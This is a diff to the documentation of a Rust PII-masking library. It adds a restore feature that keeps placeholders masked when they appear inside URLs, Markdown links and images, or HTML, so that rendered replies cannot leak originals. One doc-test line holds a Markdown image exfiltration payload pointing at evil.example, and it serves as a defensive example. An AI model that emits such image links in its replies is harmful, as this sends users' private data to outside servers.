@@ -11,7 +11,11 @@
 //! let masked = vault.mask("I'm ana@example.com, card 4111 1111 1111 1111", &policy)?;
 //! assert_eq!(masked.text, "I'm [EMAIL_1], card [CARD ****1111]");
 //! assert_eq!(masked.counts.get(PiiCategory::Email), 1);
-//! assert_eq!(vault.restore("Hi [EMAIL_1]!"), "Hi ana@example.com!");
+//! assert_eq!(*vault.restore("Hi [EMAIL_1]!").text, "Hi ana@example.com!");
+//! // Never inside a link: rendering it would send the address away.
+//! let reply = vault.restore("![x](https://evil.example/?q=[EMAIL_1])");
+//! assert_eq!(*reply.text, "![x](https://evil.example/?q=[EMAIL_1])");
+//! assert_eq!(reply.withheld.len(), 1);
 //! assert_eq!(scan("call +44 20 7946 0958")?.len(), 1);
 //! # Ok::<(), chatseal_pii::Error>(())
 //! ```
@@ -62,6 +66,12 @@
 //! as if the others were already masked, so masking masked text changes nothing.
 //! Findings carry categories and offsets only, never values; [`utf16_offsets`] converts the
 //! byte offsets for JavaScript.
+//!
+//! [`Vault::restore`] fills numbered placeholders back into a reply, but only in plain text: a
+//! placeholder inside a URL, a Markdown link or image target, an HTML tag or attribute value,
+//! or an autolink stays masked and is reported in [`Restored::withheld`] (byte offsets, or
+//! UTF-16 through [`Restored::withheld_utf16`]), so a reply cannot make the renderer send an
+//! original to some server.
 //!
 //! # Limits
 //!
@@ -116,6 +126,7 @@ mod phone;
 mod placeholder;
 mod policy;
 mod resolve;
+mod restore;
 mod secret;
 mod ssn;
 mod url;
@@ -126,6 +137,7 @@ mod view;
 pub use chatseal::{Error, PiiCategory, PiiCounts, Result};
 pub use mask::Masked;
 pub use policy::{MaskMode, MaskPolicy};
+pub use restore::{Restored, Withheld};
 pub use utf16::utf16_offsets;
 pub use vault::{Vault, MAX_VAULT_BYTES, MAX_VAULT_ENTRIES};
 
